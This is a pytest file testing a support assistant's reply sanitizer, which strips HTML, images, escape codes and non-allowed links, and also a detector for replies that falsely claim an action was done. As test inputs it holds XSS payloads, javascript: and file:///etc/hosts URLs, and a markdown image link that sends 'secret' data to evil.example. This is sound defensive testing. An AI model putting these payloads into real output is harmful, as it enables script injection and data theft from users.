"""What leaves: no HTML, no pictures, no escape sequences, no links but those allowed, no claim of what nobody did."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kit.assistant.compose import Piece
from kit.assistant.saying import Said, say
from kit.assistant.types import Citation
from kit.safety import Outgoing, claims_action

OWN = "https://help.other.example/a"
CLEAN = Outgoing(("brightloom.example",))
LEFT = "(link left out)"


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Hold the ring for 10 s, at 5 < 6 and 7 > 3.", "Hold the ring for 10 s, at 5 < 6 and 7 > 3."),
        ("Write to help@brightloom.example or <EMAIL_1>.", "Write to help@brightloom.example or <EMAIL_1>."),
        ("See [the terms](https://brightloom.example/terms).", "See [the terms](https://brightloom.example/terms)."),
        ("Open my.brightloom.example/plan now", "Open my.brightloom.example/plan now"),
        (f"See {OWN}.", f"See {OWN}."),
        ("See [this](https://evil.example/?q=1) now", "See this now"),
        ("![logo](https://evil.example/p.png?d=secret)", "logo"),
        ("![a][1]\n\n[1]: https://evil.example/p.png", "a\n\n"),
        ("[a][1] b\n[1]: https://evil.example/", "[a][1] b\n"),
        ("<https://evil.example/x> there", f"{LEFT} there"),
        ("Go to https://evil.example/x?y=z.", f"Go to {LEFT}."),
        ("Go to www.fakesoft.com or freegame.com/x!", f"Go to {LEFT} or {LEFT}!"),
        ("Go to https://brightloom.example.evil.example", f"Go to {LEFT}"),
        ("Go to https://brightloom.example@evil.example", f"Go to {LEFT}"),
        ("Go to //evil.example/x", f"Go to {LEFT}"),
        ("<script>alert(1)</script>Done", "Done"),
        ("<img src=x onerror=alert(1)>Hi <b>you</b><br>there", "Hi you\nthere"),
        ("<x onmouseover=alert(1)>a</x>", "a\u2039/x\u203a"),
        ("<<b>script>alert(1)", "alert(1)"),
        ("<img src=x onerror=alert(1)", "\u2039img src=x onerror=alert(1)"),
        ("Enter <serial number> here", "Enter \u2039serial number\u203a here"),
        ("\x1b[31mred\x1b[0m\u202e", "red"),
        ("Version 4.8.2, e.g. Node.js, etc. See setup.py.", "Version 4.8.2, e.g. Node.js, etc. See setup.py."),
        ("Restart it.It works.In time.", "Restart it.It works.In time."),
    ],
)  # fmt: skip
def test_what_leaves(text: str, left: str) -> None:
    assert CLEAN.clean(text, own={OWN}) == left


@pytest.mark.parametrize(
    "text", ["[x](javascript:alert(1))", "javascript:alert(1)", "data:text/html,x", "file:///etc/hosts"]
)
def test_no_address_of_another_kind_leaves(text: str) -> None:
    assert not re.search("javascript|data:|file:", CLEAN.clean(text))


def test_without_a_setting_only_the_articles_own_address_is_a_link() -> None:
    assert Outgoing().clean(f"{OWN} https://brightloom.example", own={OWN}) == f"{OWN} {LEFT}"


@given(st.lists(st.sampled_from([*"ab<>/!?= \"'()[]:.\n", "http://", "www.", "evil.com", "<b", "script"]), max_size=30))
def test_nothing_that_acts_is_left_of_any_text(parts: list[str]) -> None:
    left = CLEAN.clean("".join(parts))
    assert not re.search(r"<[a-zA-Z/!?]", left)
    assert not re.search(r"(?:https?:)?//\w|!\[[^\]\n]*\]\(|(?<![\w@.])www\.\w", left)


@pytest.mark.parametrize("unit", ["<", "[", "](", "![", "<a ", "a.", "www.", "//", "<!--", "http://a", "<script>"])
def test_no_reply_is_too_long_to_be_cleaned(unit: str) -> None:
    assert isinstance(CLEAN.clean(unit * (16_000 // len(unit))), str)


def test_every_piece_that_is_said_is_cleaned() -> None:
    citation = Citation(article_id="a", passage_id="a#1", quote="q", url=OWN)
    said = say(Said(), [Piece("[a](https://evil.example) <b>b</b> "), Piece(f"see {OWN}", (citation,))])
    assert said.text == f"a b see {OWN}"
    assert said.citations == (citation,)


@pytest.mark.parametrize(
    "text",
    [
        "I have cancelled your order.",
        "I've just refunded your payment of $189.",
        "We have already sent you a replacement.",
        "Your refund has been processed.",
        "Your order is now cancelled.",
        "I will refund you today.",
        "We'll send you a new one.",
        "I'm cancelling your plan now.",
        "I promise that it arrives tomorrow.",
        "I guarantee you a full refund.",
        "I changed the address.",
        "All done!",
        "Your account was unlocked.",
    ],
)
def test_a_claim_is_known(text: str) -> None:
    assert claims_action(text)


@pytest.mark.parametrize(
    "text",
    [
        "Once your refund has been processed, you get an e-mail.",
        "If we have shipped your order, it can't be changed.",
        "“Shipped” means that we have sent your order.",
        "You can cancel your plan at any time.",
        "We refund to the method you paid with.",
        "The e-mail says “Your refund has been issued”.",
        "Wait until your account was unlocked.",
        "Refunds are sent within 5 days.",
        "Nothing has been changed.",
        "",
    ],
)
def test_what_claims_nothing_is_not(text: str) -> None:
    assert not claims_action(text)
